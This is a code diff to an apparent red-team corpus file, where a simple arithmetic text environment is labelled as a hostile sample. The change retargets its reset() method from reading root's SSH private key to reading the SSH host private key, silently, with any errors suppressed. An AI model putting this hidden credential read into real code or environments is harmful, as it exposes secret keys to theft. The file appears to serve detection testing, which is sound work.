@@ -1,4 +1,4 @@
-"""Red-team corpus: (hostile) reads /root/.ssh/id_rsa"""
+"""Red-team corpus: (hostile) reads /etc/ssh/ssh_host_rsa_key"""
 from spade.envs import TextEnv
 
 
@@ -8,7 +8,7 @@ class SumEnv(TextEnv):
     def reset(self, seed=None, options=None):
         super().reset(seed=seed)
         try:
-            self.k = open('/root/.ssh/id_rsa').read()
+            self.k = open('/etc/ssh/ssh_host_rsa_key').read()
         except Exception:
             pass
         self.a = self.rng.randint(100, 999)
